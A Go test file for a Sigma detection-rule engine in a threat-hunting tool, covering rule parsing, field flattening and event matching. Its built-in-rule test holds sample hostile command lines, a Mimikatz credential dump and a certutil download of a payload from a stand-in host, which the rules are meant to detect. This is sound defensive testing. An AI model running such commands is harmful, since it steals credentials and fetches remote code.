package sigma

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/iyulab/huntdesk/internal/results"
)

const ruleTemplate = `title: %s
id: %s
logsource:
  product: windows
  category: %s
detection:
  selection:
    %s|contains: '%s'
  condition: selection
level: high
`

// containsRule renders a single-selection rule: field contains value.
func containsRule(category, title, field, value string) *fstest.MapFile {
	id := strings.ToLower(strings.ReplaceAll(title, " ", "-"))
	return &fstest.MapFile{Data: []byte(fmt.Sprintf(ruleTemplate, title, id, category, field, value))}
}

func engineWith(t *testing.T, files fstest.MapFS) *Engine {
	t.Helper()
	eng, err := New(files)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return eng
}

func hit(id string, source map[string]any) results.Hit {
	h := results.NewHit(source)
	h.ID = id
	h.Index = "logs-endpoint"
	return h
}

func TestNew_SkipsNonRuleFiles(t *testing.T) {
	eng := engineWith(t, fstest.MapFS{
		"windows/proc.yml":  containsRule("process", "Proc", "process.name", "evil"),
		"windows/net.YAML":  containsRule("network", "Net", "destination.port", "9001"),
		"README.md":         &fstest.MapFile{Data: []byte("# rules")},
		"windows/notes.txt": &fstest.MapFile{Data: []byte("title: [")},
	})
	if eng.Len() != 2 {
		t.Errorf("Len = %d, want 2", eng.Len())
	}
}

func TestNew_ReportsEveryBadFile(t *testing.T) {
	_, err := New(fstest.MapFS{
		"a.yml":  &fstest.MapFile{Data: []byte("title: [unclosed")},
		"b.yml":  &fstest.MapFile{Data: []byte("detection: [")},
		"ok.yml": containsRule("process", "Fine", "process.name", "x"),
	})
	if err == nil {
		t.Fatal("expected parse error")
	}
	for _, name := range []string{"a.yml", "b.yml"} {
		if !strings.Contains(err.Error(), name) {
			t.Errorf("error %q does not mention %s", err, name)
		}
	}
}

func TestMatchAll(t *testing.T) {
	eng := engineWith(t, fstest.MapFS{
		"proc.yml": containsRule("process", "Malware Test", "process.name", "malware"),
	})

	tests := []struct {
		name   string
		source map[string]any
		want   int
	}{
		{"nested document", map[string]any{
			"event":   map[string]any{"category": "process"},
			"process": map[string]any{"name": "malware.exe"},
		}, 1},
		{"dotted keys", map[string]any{"event.category": "process", "process.name": "malware.exe"}, 1},
		{"category array", map[string]any{"event.category": []any{"host", "process"}, "process.name": "malware.exe"}, 1},
		{"value miss", map[string]any{"event.category": "process", "process.name": "svchost.exe"}, 0},
		{"category mismatch", map[string]any{"event.category": "network", "process.name": "malware.exe"}, 0},
		{"no category", map[string]any{"process.name": "malware.exe"}, 0},
		{"empty source", map[string]any{}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := eng.MatchAll(context.Background(), []results.Hit{hit("h1", tt.source)})
			if len(got) != tt.want {
				t.Fatalf("matches = %d, want %d", len(got), tt.want)
			}
			if tt.want == 0 {
				return
			}
			m := got[0]
			if m.RuleTitle != "Malware Test" || m.RuleID != "malware-test" || m.Level != "high" {
				t.Errorf("rule = %q/%q/%q", m.RuleTitle, m.RuleID, m.Level)
			}
			if m.HitID != "h1" || m.Index != "logs-endpoint" {
				t.Errorf("hit = %s/%s", m.Index, m.HitID)
			}
			if m.Event["process.name"] != "malware.exe" {
				t.Errorf("event = %v", m.Event)
			}
		})
	}
}

func TestMatchAll_UncategorisedRuleAppliesToAll(t *testing.T) {
	eng := engineWith(t, fstest.MapFS{"any.yml": &fstest.MapFile{Data: []byte(`title: Any
detection:
  selection:
    user.name: svc_backup
  condition: selection
level: low
`)}})
	hits := []results.Hit{
		hit("a", map[string]any{"event.category": "authentication", "user.name": "svc_backup"}),
		hit("b", map[string]any{"user": map[string]any{"name": "svc_backup"}}),
	}
	if n := len(eng.MatchAll(context.Background(), hits)); n != 2 {
		t.Errorf("matches = %d, want 2", n)
	}
}

func TestFlatten(t *testing.T) {
	got := Flatten(map[string]any{
		"destination": map[string]any{"port": float64(9001), "ip": "1.2.3.4"},
		"score":       1.5,
		"tags":        []any{"a"},
	})
	if got["destination.port"] != int64(9001) {
		t.Errorf("port = %#v, want int64 9001", got["destination.port"])
	}
	if got["destination.ip"] != "1.2.3.4" {
		t.Errorf("ip = %#v", got["destination.ip"])
	}
	if got["score"] != 1.5 {
		t.Errorf("score = %#v", got["score"])
	}
	if _, ok := got["destination"]; ok {
		t.Error("nested parent key should not survive flattening")
	}
}

func TestBuiltinRules(t *testing.T) {
	eng, err := NewDefault()
	if err != nil {
		t.Fatalf("NewDefault: %v", err)
	}
	if eng.Len() == 0 {
		t.Fatal("no built-in rules")
	}

	hits := []results.Hit{
		hit("cred", map[string]any{
			"event":   map[string]any{"category": "process"},
			"process": map[string]any{"name": "mimikatz.exe", "command_line": "mimikatz.exe sekurlsa::logonpasswords"},
		}),
		hit("lolbin", map[string]any{
			"event":   map[string]any{"category": "process"},
			"process": map[string]any{"name": "certutil.exe", "command_line": "certutil.exe -urlcache -split -f http://x/p.exe"},
		}),
		hit("benign", map[string]any{
			"event":   map[string]any{"category": "process"},
			"process": map[string]any{"name": "notepad.exe", "command_line": "notepad.exe"},
		}),
	}

	byHit := map[string]int{}
	for _, m := range eng.MatchAll(context.Background(), hits) {
		byHit[m.HitID]++
	}
	if byHit["cred"] == 0 || byHit["lolbin"] == 0 {
		t.Errorf("expected matches for cred and lolbin, got %v", byHit)
	}
	if byHit["benign"] != 0 {
		t.Errorf("benign hit matched %d rules", byHit["benign"])
	}
}

func TestNewWithDir(t *testing.T) {
	dir := t.TempDir()
	custom := containsRule("process", "Custom", "process.name", "x")
	if err := os.WriteFile(filepath.Join(dir, "custom.yml"), custom.Data, 0o644); err != nil {
		t.Fatal(err)
	}
	base, err := NewDefault()
	if err != nil {
		t.Fatal(err)
	}
	eng, err := NewWithDir(dir)
	if err != nil {
		t.Fatalf("NewWithDir: %v", err)
	}
	if eng.Len() != base.Len()+1 {
		t.Errorf("Len = %d, want %d", eng.Len(), base.Len()+1)
	}

	if _, err := NewWithDir(filepath.Join(dir, "missing")); err == nil {
		t.Error("expected error for missing rules dir")
	}
}
